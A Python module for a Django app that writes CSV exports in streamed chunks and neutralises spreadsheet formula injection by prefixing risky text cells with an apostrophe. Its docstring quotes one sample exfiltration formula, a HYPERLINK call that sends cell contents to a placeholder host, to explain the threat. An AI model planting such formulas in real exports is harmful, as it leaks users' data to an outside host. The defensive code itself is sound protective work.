"""The one CSV writer of every export: streamed in chunks, spreadsheet formulas neutralised.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula. Exported text comes from LLMs and from imported files, which an
attacker can steer (``=HYPERLINK("http://x/?"&A1, "click")`` in a judge's rationale), so every
such text cell gets a leading apostrophe: spreadsheets show the text, R/pandas read it with the
apostrophe. Numbers, and text that is exactly a number ("-0.25"), stay as they are so the
statistics remain readable by analysis code.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """Return ``value`` ready for a CSV cell: text that a spreadsheet would run is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def stream_csv(header: Sequence[object], rows: Iterable[Sequence[object]], *, chunk: int = 200) -> Iterator[str]:
    """Yield the header line, then the rows ``chunk`` at a time, as CSV text (formulas neutralised)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)

    def flush() -> str:
        value = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate(0)
        return value

    writer.writerow(safe_row(header))
    yield flush()
    for n, row in enumerate(rows, start=1):
        writer.writerow(safe_row(row))
        if n % chunk == 0:
            yield flush()
    yield flush()


def csv_text(header: Sequence[object], rows: Iterable[Sequence[object]]) -> str:
    """Return the whole CSV as one string (for a file inside a zip)."""
    return "".join(stream_csv(header, rows))


def csv_response(filename: str, header: Sequence[object], rows: Iterable[Sequence[object]], *, stream: bool = False) -> HttpResponse | StreamingHttpResponse:
    """Return a CSV download; ``stream`` for exports too large to build in memory."""
    if stream:
        response: HttpResponse | StreamingHttpResponse = StreamingHttpResponse(stream_csv(header, rows), content_type="text/csv; charset=utf-8")
    else:
        response = HttpResponse(csv_text(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_stream_response(filename: str, chunks: Iterable[str]) -> StreamingHttpResponse:
    """Return a streamed download of CSV text made by ``stream_csv``."""
    response = StreamingHttpResponse(chunks, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
